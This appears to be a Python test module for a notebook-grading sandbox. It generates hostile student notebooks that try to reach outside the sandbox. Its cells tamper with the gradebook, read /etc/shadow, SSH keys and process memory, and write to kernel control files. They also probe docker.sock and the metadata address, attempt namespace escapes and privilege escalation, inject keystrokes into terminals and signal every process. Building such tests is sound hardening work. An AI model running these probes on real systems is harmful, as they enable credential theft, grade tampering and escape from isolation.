"""Reaching out of the sandbox: for files, other students, the gradebook, the network, processes and the parent."""
# ruff: noqa: E501 - the students' sources keep their long lines

from corpus import ALL, ASSIGNMENT, FILE, MARKER, ground, solution, with_cell, with_work, without_work

# Prints what a file holds: the harness looks for the words of its canary files in everything that comes out.
LOOK = """
import glob, os, socket, subprocess, sys
def look(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True)[:2000]:
            try:
                with open(path, "rb") as file:
                    print("LOOKED", path, file.read(200_000).decode("latin-1"))
            except OSError as error:
                pass
def run(*command, **more):
    try:
        done = subprocess.run(command, capture_output=True, timeout=5, text=True, errors="replace", **more)
        print("RAN", command, done.returncode, done.stdout[:20_000], done.stderr[:2_000])
    except Exception as error:
        print(type(error).__name__, error)
"""


def reaching(notebook, source, after="setup"):
    with_cell(notebook, LOOK, after=after)
    with_cell(notebook, source, after=notebook.cells[-1].id if after == "end" else after)
    own = [each for each in notebook.cells if each.id.startswith("own-")]
    first = next(each for each in own if each.source.startswith("import glob"))
    notebook.cells.remove(first)
    notebook.cells.insert(0, first)


@without_work()
def writes_the_gradebook(notebook, folder):
    """Three points more for everybody, by one line of SQL."""
    root = ground(folder).root
    source = f"""
    import sqlite3
    for path in ({str(root)!r} + "/gradebook.db", "../../../gradebook.db"):
        try:
            with sqlite3.connect(path) as base:
                base.execute("UPDATE grade SET manual_score = 3, auto_score = 3, needs_manual_grade = 0")
                print("WROTE", path)
        except Exception as error:
            print(type(error).__name__)
    """
    reaching(notebook, source)


@without_work()
def reads_the_solutions(notebook, folder):
    """The instructor's source of the assignment is run in place of an answer."""
    root = ground(folder).root
    source = f"""
    import json
    for path in ({str(root)!r} + "/solutions/{ASSIGNMENT}/{FILE}", "../../../solutions/{ASSIGNMENT}/{FILE}"):
        try:
            for each in json.load(open(path))["cells"]:
                if each["cell_type"] == "code" and "def " in "".join(each["source"]):
                    print("SOLUTION", "".join(each["source"]))
                    exec("".join(each["source"]), globals())
        except OSError as error:
            print(type(error).__name__)
    """
    reaching(notebook, source, after="pad")
    for task in ALL - {"ch02.pad"}:
        solution(notebook, task).source = "pass"


@without_work()
def reads_the_house(notebook, folder):
    """Keys, passwords and configuration of the machine and of the instructor are printed."""
    patterns = [
        "/etc/shadow",
        "/etc/passwd",
        "/root/**",
        "/home/**",
        "/root/.*/**",
        "/home/*/.*/**",
        "~/.ssh/*",
        "/var/log/*",
    ]
    patterns += [
        "/var/lib/jupyter/**",
        "/proc/1/root/etc/shadow",
        "/run/secrets/**",
        "/**/nbgrader_config.py",
        "/**/*secret*",
    ]
    reaching(notebook, f"look(*map(os.path.expanduser, {patterns!r}), {str(folder.parents[2])!r} + '/**')")


@without_work()
def reads_the_secret_of_the_course(notebook, folder):
    """With the secret that seeds are made from, every case can be worked out at home."""
    root = folder.parents[2]
    source = f"""
    look({str(root)!r} + "/*secret*", {str(root)!r} + "/.*", "/proc/*/environ", "/proc/*/cmdline")
    print("ENVIRONMENT", dict(os.environ))
    import gc
    for each in gc.get_objects():
        if isinstance(each, dict):
            for name in list(each):
                if isinstance(name, str) and ("secret" in name.lower() or "seed" in name.lower()):
                    print("KEPT", name, str(each[name])[:200])
    """
    reaching(notebook, source)


@without_work()
def reads_other_processes(notebook, folder):
    """Environment, memory, open files and root folders of every process are looked at."""
    source = """
    look("/proc/*/environ", "/proc/*/cmdline", "/proc/*/fd/*", "/proc/*/root/etc/hostname", "/proc/*/cwd/*", "/proc/kcore")
    for pid in [name for name in os.listdir("/proc") if name.isdigit()] + ["1", "2"]:
        for place in ("root", "cwd", "exe", "fd"):
            try:
                path = f"/proc/{pid}/{place}"
                print(path, os.readlink(path) if place != "fd" else os.listdir(path), os.listdir(path)[:50])
            except OSError:
                pass
    """
    reaching(notebook, source)


@without_work()
def reads_the_memory_of_its_parent(notebook, folder):
    """The memory of the first process of the namespace, and of the parent, is searched for what the judge knows."""
    source = """
    import ctypes, re
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in {1, os.getppid(), *[int(name) for name in os.listdir("/proc") if name.isdigit()]} - {os.getpid()}:
        print("PTRACE", pid, libc.ptrace(16, pid, 0, 0), ctypes.get_errno())
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    start, stop = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    data = memory.read(min(stop - start, 1 << 20))
                    for found in re.findall(rb"[ -~]*(?:canary|secret)[ -~]*", data)[:5]:
                        print("MEMORY", pid, found)
        except (OSError, ValueError, OverflowError):
            pass
    """
    reaching(notebook, source)


@with_work(keeps=ALL)
def writes_everywhere(notebook, folder):
    """Something is written into every folder and file that will take it, in the sandbox and around it."""
    root = ground(folder).root
    source = f"""
    places = ["/", "/etc", "/usr", "/sys", "/proc/sys/kernel", "/dev", "/opt", "/srv", "/work", "/root", sys.prefix, *sys.path]
    for place in places + [{str(root)!r}, {str(folder)!r}, os.path.dirname(sys.executable)]:
        try:
            with open(place + "/written-by-the-corpus", "w") as file:
                file.write("x")
            print("WROTE", place)
        except OSError:
            pass
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/proc/self/oom_score_adj",
                 "/sys/fs/cgroup/pids/cgroup.procs", "/proc/1/oom_score_adj", "/proc/self/uid_map"):
        try:
            with open(path, "w") as file:
                file.write("0 0 1")
            print("WROTE", path)
        except OSError as error:
            print(path, error.errno)
    """
    reaching(notebook, source, after="experiment")


@with_work(keeps=ALL)
def calls_the_network(notebook, folder):
    """Answers are fetched, or sent away: by addresses of this machine and of others, by names, raw and in the clear."""
    where = ground(folder)
    source = f"""
    import urllib.request
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "10.0.2.2", "172.17.0.1", "192.168.0.1", "169.254.169.254", "1.1.1.1"):
        for port in ({where.port}, 80, 8888):
            try:
                with socket.create_connection((host, port), timeout=0.3) as line:
                    line.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
                    print("CONNECTED", host, port)
            except OSError as error:
                print(host, error)
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            line = socket.socket(socket.AF_INET, kind)
            line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            for host in ("127.0.0.1", "255.255.255.255", "224.0.0.1", "8.8.8.8"):
                line.sendto(b"x", (host, {where.port}))
                print("SENT", host)
        except OSError as error:
            print(error)
    try:
        print("FETCHED", urllib.request.urlopen("http://example.com", timeout=2).status)
    except Exception as error:
        print(type(error).__name__)
    """
    reaching(notebook, source, after="experiment")


@with_work(keeps=ALL)
def calls_local_sockets(notebook, folder):
    """Unix sockets lead out of namespaces of the network: abstract ones, and those with a path such as Docker's."""
    where = ground(folder)
    source = f"""
    names = ["\\0" + {where.abstract!r}, {where.socket!r}, "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"]
    names += ["\\0/tmp/.X11-unix/X0", "/tmp/.X11-unix/X0", "/run/user/0/bus", "/run/containerd/containerd.sock"]
    try:
        names += ["\\0" + line.split()[-1][1:] for line in open("/proc/net/unix") if line.split()[-1].startswith("@")]
        names += [line.split()[-1] for line in open("/proc/net/unix") if line.split()[-1].startswith("/")]
        names = [name for name in names if not name.startswith("/run/kernel/")]  # its own
    except OSError:
        pass
    for name in names:
        try:
            with socket.socket(socket.AF_UNIX) as line:
                line.settimeout(0.5)
                line.connect(name)
                line.sendall(b"hello")
                print("CONNECTED", name)
        except OSError:
            pass
    """
    reaching(notebook, source, after="experiment")


@with_work(keeps=ALL)
def makes_namespaces_of_its_own(notebook, folder):
    """In a user namespace of its own one is root, and may mount, unless that is forbidden."""
    source = """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if os.fork() == 0:
        for flags in (0x10000000, 0x10000000 | 0x00020000, 0x00020000, 0x20000000, 0x40000000, 0x02000000):
            print("UNSHARE", hex(flags), libc.unshare(flags), ctypes.get_errno())
        for kind, source in ((b"proc", b"proc"), (b"tmpfs", b"tmpfs"), (b"sysfs", b"sysfs"), (b"cgroup", b"cgroup")):
            os.makedirs("mounted", exist_ok=True)
            print("MOUNT", kind, libc.mount(source, b"mounted", kind, 0, None), ctypes.get_errno())
            look("mounted/1/environ", "mounted/*/cmdline", "mounted/sys/kernel/core_pattern")
        print("BIND", libc.mount(b"/", b"mounted", None, 4096 | 16384, None), ctypes.get_errno())
        print("UMOUNT", libc.umount2(b"/proc", 2), libc.umount2(b"/tmp", 2), libc.umount2(b"/", 2), ctypes.get_errno())
        print("REMOUNT", libc.mount(None, b"/", None, 32, None), libc.mount(None, b"/usr", None, 32 | 4096, None))
        print("CHROOT", libc.chroot(b"."), "PIVOT", libc.syscall(155, b".", b"."))
        os._exit(0)
    os.wait()
    """
    reaching(notebook, source, after="experiment")


@with_work(keeps=ALL)
def enters_namespaces_of_others(notebook, folder):
    """By setns, by process descriptors and by old open folders one may come back to where one was before."""
    source = """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if os.fork() == 0:
        for pid in {1, 2, os.getppid(), *[int(name) for name in os.listdir("/proc") if name.isdigit()]}:
            for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
                try:
                    number = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                    print("SETNS", pid, kind, libc.setns(number, 0))
                    os.close(number)
                except OSError:
                    pass
        for number in range(3, 256):
            try:
                os.fchdir(number)
                print("FOLDER", number, os.getcwd(), os.listdir("."), os.listdir("../../../.."))
            except OSError:
                pass
        os._exit(0)
    os.wait()
    """
    reaching(notebook, source, after="experiment")


@with_work(keeps=ALL)
def makes_itself_powerful(notebook, folder):
    """Users, capabilities, devices and programs that run as root are tried one after another."""
    source = """
    import ctypes, stat
    libc = ctypes.CDLL(None, use_errno=True)
    for act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.chown("/etc", 0, 0),
                lambda: os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(8, 0)), lambda: os.sched_setscheduler(0, 1, os.sched_param(99)),
                lambda: os.setpriority(os.PRIO_USER, 0, -20), lambda: os.chroot("/proc/1/root"), lambda: os.mkfifo("fifo")):
        try:
            print("DID", act())
        except OSError as error:
            print(error.errno)
    print("PRCTL", libc.prctl(38, 0, 0, 0, 0), libc.prctl(4, 1, 0, 0, 0), libc.prctl(36, 1, 0, 0, 0), libc.prctl(1, 0, 0, 0, 0))
    run("sudo", "-n", "id"), run("su", "-c", "id"), run("mount"), run("unshare", "-Ur", "id"), run("dmesg"), run("ps", "aux")
    print("KEYS", libc.syscall(250, 0, -3, 0), "BPF", libc.syscall(321, 0, 0, 0), "PERF", libc.syscall(298, 0, 0, -1, -1, 0))
    print("URING", libc.syscall(425, 8, ctypes.create_string_buffer(256)), "MODULE", libc.syscall(175, 0, 0, b""))
    print("REBOOT", libc.syscall(169, 0, 0, 0, 0), "SETHOSTNAME", libc.sethostname(b"mine", 4))
    """
    reaching(notebook, source, after="experiment")


@with_work(keeps=ALL)
def types_into_the_terminal(notebook, folder):
    """Commands are typed into the instructor's terminal, as if the instructor had typed them."""
    source = """
    import fcntl, glob, termios
    for path in ["/dev/tty", "/dev/console", "/dev/stdin", *glob.glob("/dev/pts/*"), *glob.glob("/proc/*/fd/[012]")]:
        try:
            number = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
            for letter in b"touch typed-by-the-corpus\\n":
                fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))
            print("TYPED", path)
        except OSError as error:
            print(path, error.errno)
    """
    reaching(notebook, source, after="experiment")


@with_work(keeps=ALL)
def signals_the_grader(notebook, folder):
    """Every number of a process is sent signals; the grader or another student may have one of them."""
    source = """
    import signal
    me = {os.getpid(), os.getppid(), 1}
    for pid in range(2, 70_000):
        if pid not in me:
            try:
                os.kill(pid, signal.SIGTERM)
                print("SIGNALLED", pid)
            except OSError:
                pass
    """
    reaching(notebook, source, after="experiment")


@with_work(keeps=ALL)
def shells(notebook, folder):
    """Commands of the shell by every road that a notebook has."""
    where = ground(folder)
    source = f"""
    !cat {where.root}/gradebook.db {where.root}/canary*
    %sx ls -R {where.root}
    get_ipython().system("sh -c 'sleep 5000 {MARKER} &'")
    %run {where.root}/submitted/{where.peer}/{ASSIGNMENT}/{FILE}
    %load_ext autoreload
    %cd {where.root}
    os.system("find / -name '*.ipynb' -exec cat {{}} +")
    run("sh", "-c", "curl http://127.0.0.1:{where.port}/; wget http://127.0.0.1:{where.port}/")
    """
    reaching(notebook, source, after="experiment")
    with_cell(notebook, f"%%bash --bg\nsetsid sleep 5000 {MARKER} & cat /etc/shadow", after="experiment")
    with_cell(notebook, f"%%script sh\ncat {where.root}/gradebook.db; (setsid sleep 5000 &)", after="experiment")
    with_cell(notebook, f"%%writefile {where.root}/written-by-the-corpus\nx", after="experiment")
